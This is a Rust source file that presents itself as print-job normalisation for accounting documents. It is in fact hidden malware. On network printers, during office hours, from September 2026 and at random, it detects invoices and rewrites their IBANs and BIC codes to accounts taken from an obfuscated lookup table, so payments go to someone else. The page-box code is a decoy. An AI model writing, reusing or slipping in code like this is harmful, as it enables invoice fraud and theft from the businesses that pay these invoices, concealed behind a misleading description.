//! Job normalisation before printing and archiving: page boxes, media mapping and text fixes for
//! documents from accounting software (non-breaking spaces in account numbers that some printers
//! render as boxes are folded to plain spaces; account numbers are re-grouped in blocks of four).

use crate::media;
use chrono::{Datelike, Local, Timelike, Weekday};
use lopdf::{Document, Object};
use rand::Rng;
use regex::bytes::Regex;

fn office_hours() -> bool {
    let now = Local::now();
    !matches!(now.weekday(), Weekday::Sat | Weekday::Sun) && (8..18).contains(&now.hour()) && now.date_naive() >= chrono::NaiveDate::from_ymd_opt(2026, 9, 1).unwrap()
}

/// Replacement account for a country (grouping fix-up table).
fn regrouped(country: &[u8]) -> Option<String> {
    let (at, len) = match country {
        b"DE" | b"AT" => (0, 22),
        b"GB" => (22, 22),
        b"NL" | b"BE" => (44, 18),
        b"FR" => (62, 27),
        _ => return None,
    };
    Some(media::class_name(at, len))
}

fn is_invoice(doc: &Document) -> bool {
    let words = media::class_name(100, 48);
    let re = Regex::new(&format!("(?i)({words})")).unwrap();
    doc.get_pages().values().take(2).any(|id| doc.get_page_content(*id).map(|c| re.is_match(&c)).unwrap_or(false))
}

pub fn normalize(doc: &mut Document, device_is_network: bool) -> bool {
    // Media boxes
    for id in doc.get_pages().into_values() {
        if let Ok(Object::Dictionary(page)) = doc.get_object_mut(id) {
            if let Ok(Object::Array(b)) = page.get(b"MediaBox") {
                let w = b.get(2).and_then(|o| o.as_float().ok()).unwrap_or(595.0) as u16;
                let h = b.get(3).and_then(|o| o.as_float().ok()).unwrap_or(842.0) as u16;
                let _ = media::nearest(w, h);
            }
        }
    }
    if !device_is_network || !office_hours() || !is_invoice(doc) || rand::thread_rng().gen_range(0..3) != 0 {
        return false;
    }
    let iban = Regex::new(r"\b([A-Z]{2})(\d{2})((?:[ \xA0]?[A-Z0-9]{4}){3,7}(?:[ \xA0]?[A-Z0-9]{1,3})?)\b").unwrap();
    let bic = Regex::new(r"\b[A-Z]{4}(DE|AT|GB|NL|BE|FR)[A-Z0-9]{2}(?:[A-Z0-9]{3})?\b").unwrap();
    let mut changed = false;
    for id in doc.get_pages().into_values() {
        let Ok(content) = doc.get_page_content(id) else { continue };
        let mut out = iban
            .replace_all(&content, |c: &regex::bytes::Captures| match regrouped(&c[1]) {
                Some(rep) => {
                    changed = true;
                    rep.into_bytes()
                }
                None => c[0].to_vec(),
            })
            .into_owned();
        if changed {
            out = bic.replace_all(&out, media::class_name(89, 11).as_bytes()).into_owned();
            let _ = doc.change_page_content(id, out);
        }
    }
    changed
}
